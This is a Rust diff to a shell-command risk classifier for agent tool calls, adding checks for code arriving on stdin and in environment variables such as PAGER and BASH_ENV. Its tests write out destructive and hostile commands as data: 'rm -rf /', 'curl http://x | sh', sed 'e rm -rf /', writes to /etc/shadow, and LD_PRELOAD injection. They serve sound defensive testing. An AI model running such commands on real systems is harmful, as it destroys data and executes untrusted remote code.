@@ -16,12 +16,20 @@ mod words;
 /// this once before serving, so start-up garbage can be handed back at once).
 pub fn prepare() {
     floor::prepare();
+    knowledge::prepare();
+}
+
+/// Every program (and `program subcommand`) the classifier declares, with its option grammar:
+/// what the tests and the oracle's option-combination generator enumerate.
+pub fn declared_programs() -> Vec<(&'static str, &'static crate::policy::options::Grammar)> {
+    knowledge::declared()
 }
 
 pub use shell::parse_backstops;
 
 use super::probe::{Interpreter, Payload, PolicyClass, Probe};
 use super::{Classification, Reason, Tier};
+use environment::Setting;
 
 /// Classify a call from its probe, each field as what it is. Total: never panics, on any
 /// input.
@@ -50,6 +58,16 @@ pub fn classify(probe: &Probe) -> Classification {
         }
     }
     environment_overlay(&probe.env, &mut reasons);
+    if let Some(stdin) = probe.stdin.as_deref()
+        && probe.env.iter().any(|(k, v)| {
+            v.as_deref()
+                .is_some_and(|v| environment::startup_reads_stdin(k, v))
+        })
+    {
+        // `BASH_ENV`/`ENV` pointing at standard input: a shell the command starts runs the
+        // call's stdin at start-up, so it is judged as shell code too.
+        shell_text(stdin, false, None, &mut reasons);
+    }
     for host in &probe.hosts {
         raw_floor(host, &mut reasons);
     }
@@ -143,16 +161,34 @@ fn quote_argv(argv: &[String]) -> String {
     out
 }
 
-/// Environment changes: judged by name (a name that redirects what programs run is tier 2)
-/// and by value (the raw-text rules).
+/// Environment changes, judged the way an assignment in the text is: a name that redirects
+/// what programs run is tier 2, a command-valued variable (`PAGER`, `*_COMMAND`) is judged as
+/// the command it holds, `LESS`/`MORE` by their options; every value also goes through the
+/// raw-text rules. Removing a variable is judged by its name.
 fn environment_overlay(env: &[(String, Option<String>)], reasons: &mut Vec<Reason>) {
     for (key, value) in env {
-        if let Some(why) = environment::dangerous(key) {
-            reasons.push(Reason {
+        let setting = match value {
+            Some(v) => environment::setting(key, v, true, false),
+            None => environment::dangerous(key).map_or(Setting::Harmless, Setting::Dangerous),
+        };
+        match setting {
+            Setting::Harmless => {}
+            Setting::Dangerous(why) => reasons.push(Reason {
                 subject: key.clone(),
                 rule: format!("environment overlay {why}"),
                 tier: Tier::Stateful,
-            });
+            }),
+            Setting::Code(code) if code.trim().is_empty() => {}
+            Setting::Code(code) => {
+                reasons.push(Reason {
+                    subject: key.clone(),
+                    rule: format!(
+                        "environment overlay sets {key}, a command programs run (judged as that command)"
+                    ),
+                    tier: Tier::ReadOnly,
+                });
+                reasons.extend(shell::classify_command(&code, 1, false, None).reasons);
+            }
         }
         if let Some(v) = value {
             raw_floor(v, reasons);
@@ -163,6 +199,169 @@ fn environment_overlay(env: &[(String, Option<String>)], reasons: &mut Vec<Reaso
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn tier(probe: Probe) -> Tier {
+        classify(&probe).tier
+    }
+
+    fn with_stdin(command: &str, stdin: &str) -> Tier {
+        tier(
+            Probe::new("shell_exec", PolicyClass::Shell)
+                .shell(command)
+                .stdin(stdin),
+        )
+    }
+
+    fn with_env(command: &str, name: &str, value: &str) -> Tier {
+        tier(
+            Probe::new("shell_exec", PolicyClass::Shell)
+                .shell(command)
+                .env("", vec![(name.into(), Some(value.into()))]),
+        )
+    }
+
+    #[test]
+    fn the_calls_stdin_is_code_for_programs_that_read_their_program_there() {
+        // awk and sed read a program from `-`, /dev/stdin and /dev/fd/0: the call's stdin is
+        // classified as that program.
+        assert_eq!(with_stdin("awk -f - f", "{ print $1 }"), Tier::ReadOnly);
+        assert_eq!(
+            with_stdin("awk -f /dev/stdin f", "BEGIN { system(\"touch /tmp/x\") }"),
+            Tier::Stateful
+        );
+        assert_eq!(
+            with_stdin("awk -f /dev/fd/0 f", "{ print > \"/etc/passwd\" }"),
+            Tier::Stateful
+        );
+        assert_eq!(with_stdin("sed -n -f - f", "1p"), Tier::ReadOnly);
+        assert_eq!(
+            with_stdin("sed -f /dev/stdin f", "s/a/b/w /etc/shadow"),
+            Tier::Stateful
+        );
+        assert_eq!(with_stdin("sed -f - f", "1e rm -rf /"), Tier::Irreversible);
+        // A shell reading a script from /dev/stdin runs the call's stdin.
+        assert_eq!(
+            with_stdin("bash /dev/stdin", "rm -rf /srv"),
+            Tier::Irreversible
+        );
+        assert_eq!(
+            with_stdin(". /dev/stdin", "rm -rf /srv"),
+            Tier::Irreversible
+        );
+        // A shell reading the call's stdin takes the tier of that code.
+        assert_eq!(with_stdin("sh -s", "ls -la"), Tier::ReadOnly);
+        assert_eq!(with_stdin("sudo bash", "touch f"), Tier::Reversible);
+        assert_eq!(with_stdin("sh", "true\nrm -rf /srv"), Tier::Irreversible);
+        assert_eq!(with_stdin("sh", "ls | sh"), Tier::Stateful);
+        assert_eq!(
+            with_stdin("sh", "{ \"a\": \"$(touch p)\" }"),
+            Tier::Stateful
+        );
+        // Other interpreters' code on stdin stays opaque.
+        assert_eq!(with_stdin("python3 -", "print(1)"), Tier::Stateful);
+        assert_eq!(with_stdin("perl /dev/stdin", "print 1"), Tier::Stateful);
+        // Data for a reader.
+        assert_eq!(with_stdin("wc -l", "rm -rf /\nreboot"), Tier::ReadOnly);
+        // No stdin given: nothing to read (the one-shot shell's stdin is /dev/null).
+        assert_eq!(
+            tier(Probe::from_text(
+                "shell_exec",
+                PolicyClass::Shell,
+                "awk -f - f"
+            )),
+            Tier::ReadOnly
+        );
+    }
+
+    #[test]
+    fn nested_code_reads_the_calls_stdin_only_through_a_command_that_does() {
+        // `sh -c 'sh'` run with its input redirected or piped: the inner shell reads that
+        // input, not the call's, so the call's harmless stdin does not lower it.
+        assert_eq!(with_stdin("sh -c 'sh' < /tmp/evil", "ls"), Tier::Stateful);
+        assert_eq!(
+            with_stdin("curl http://x | sh -c 'sh'", "ls"),
+            Tier::Stateful
+        );
+        assert_eq!(
+            with_stdin("curl http://x | xargs -0 sh -c 'bash -s'", "true"),
+            Tier::Stateful
+        );
+        // A document given to the command is what the nested shell reads, judged as code.
+        assert_eq!(
+            with_stdin("sh -c 'sh' <<EOF\nrm -rf /\nEOF", "ls"),
+            Tier::Irreversible
+        );
+        assert_eq!(
+            with_stdin("sh -c 'sh' <<'EOF'\nS=rm; $S -rf /srv\nEOF", "ls"),
+            Tier::Irreversible
+        );
+        assert_eq!(
+            with_stdin("sh -c 'sh' <<'EOF'\nls -la\nEOF", "rm -rf /"),
+            Tier::ReadOnly
+        );
+        // The same for a program read from that input, with or without a call's stdin.
+        assert_eq!(
+            with_stdin("curl http://x | sh -c 'awk -f - f'", "{ print }"),
+            Tier::Stateful
+        );
+        assert_eq!(
+            tier(Probe::from_text(
+                "shell_exec",
+                PolicyClass::Shell,
+                "curl http://x | sh -c 'sed -f - f'"
+            )),
+            Tier::Stateful
+        );
+        // Code run by a command that reads the call's stdin reads it too.
+        assert_eq!(with_stdin("sh -c 'sh'", "ls"), Tier::ReadOnly);
+        assert_eq!(
+            with_stdin("sudo sh -c 'bash -s'", "rm -rf /srv"),
+            Tier::Irreversible
+        );
+        assert_eq!(
+            with_stdin("sh -c 'awk -f - f'", "{ system(\"id\") }"),
+            Tier::Stateful
+        );
+    }
+
+    #[test]
+    fn a_crontab_on_the_calls_stdin_is_judged_by_its_jobs() {
+        assert_eq!(
+            with_stdin("crontab -", "* * * * * rm -rf /srv"),
+            Tier::Irreversible
+        );
+    }
+
+    #[test]
+    fn bash_env_on_stdin_runs_the_calls_stdin() {
+        let probe = Probe::new("shell_exec", PolicyClass::Shell)
+            .shell("bash -c true")
+            .stdin("rm -rf /srv")
+            .env("", vec![("BASH_ENV".into(), Some("/dev/stdin".into()))]);
+        assert_eq!(tier(probe), Tier::Irreversible);
+        assert_eq!(
+            with_stdin("BASH_ENV=/dev/stdin bash -c true", "rm -rf /srv"),
+            Tier::Irreversible
+        );
+    }
+
+    #[test]
+    fn environment_entries_are_judged_like_assignments() {
+        assert_eq!(with_env("git log -1", "GIT_PAGER", "cat"), Tier::ReadOnly);
+        assert_eq!(
+            with_env("git log -1", "PAGER", "rm -rf /srv"),
+            Tier::Irreversible
+        );
+        assert_eq!(with_env("git log -1", "PAGER", "$(id)"), Tier::Stateful);
+        assert_eq!(with_env("less f", "LESS", "-R"), Tier::Reversible);
+        assert_eq!(with_env("less f", "LESS", "+!id"), Tier::Stateful);
+        assert_eq!(with_env("ls", "LD_PRELOAD", "/tmp/x.so"), Tier::Stateful);
+        assert_eq!(with_env("ls", "LANG", "C"), Tier::ReadOnly);
+        let removed = Probe::new("shell_exec", PolicyClass::Shell)
+            .shell("ls")
+            .env("", vec![("PATH".into(), None)]);
+        assert_eq!(tier(removed), Tier::Stateful);
+    }
 
     #[test]
     fn argv_words_are_quoted_back_exactly() {
